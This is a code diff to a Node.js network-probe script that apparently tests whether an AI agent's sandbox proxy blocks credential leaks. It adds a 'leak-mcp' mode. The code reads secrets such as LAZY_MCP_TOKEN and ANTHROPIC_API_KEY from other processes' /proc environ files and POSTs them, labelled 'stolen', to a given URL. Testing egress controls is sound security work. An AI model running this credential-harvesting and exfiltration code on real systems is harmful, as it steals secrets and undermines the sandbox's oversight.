@@ -9,6 +9,7 @@
 //   node net-probe.cjs many N                N connections at once, none sending
 //   node net-probe.cjs leak URL              GET URL?k=<the task's placeholder> through $HTTP_PROXY
 //   node net-probe.cjs leak-connect HOST PORT  CONNECT with the placeholder in a header
+//   node net-probe.cjs leak-mcp URL          POST URL with the task's MCP token (its harness's LAZY_MCP_TOKEN) in the body
 const net = require("node:net");
 const fs = require("node:fs");
 const [mode, a, b] = process.argv.slice(2);
@@ -42,18 +43,32 @@ function exchange(host, port, send, timeoutMs, onData) {
   return s;
 }
 
-function placeholder() {
-  if (process.env.ANTHROPIC_API_KEY) return process.env.ANTHROPIC_API_KEY;
+/** A variable of this process's environment, or of the harness's (the agent's own processes). */
+function fromEnv(name) {
+  if (process.env[name]) return process.env[name];
   for (const pid of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n))) {
     try {
-      const m = /(?:^|\0)ANTHROPIC_API_KEY=([^\0]+)/.exec(fs.readFileSync(`/proc/${pid}/environ`, "latin1"));
+      const m = new RegExp(`(?:^|\0)${name}=([^\0]+)`).exec(fs.readFileSync(`/proc/${pid}/environ`, "latin1"));
       if (m) return m[1];
     } catch {}
   }
   return null;
 }
+const placeholder = () => fromEnv("ANTHROPIC_API_KEY");
 
-if (mode === "get" || mode === "leak") {
+if (mode === "leak-mcp") {
+  if (!proxy) out({ result: "no-proxy" });
+  const token = fromEnv("LAZY_MCP_TOKEN");
+  if (!token) out({ result: "no-mcp-token" });
+  const u = new URL(a);
+  const body = JSON.stringify({ stolen: token });
+  exchange(
+    proxy.hostname,
+    Number(proxy.port),
+    `POST ${a} HTTP/1.1\r\nHost: ${u.host}\r\ncontent-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`,
+    8000,
+  );
+} else if (mode === "get" || mode === "leak") {
   if (!proxy) out({ result: "no-proxy" });
   let url = a;
   if (mode === "leak") {
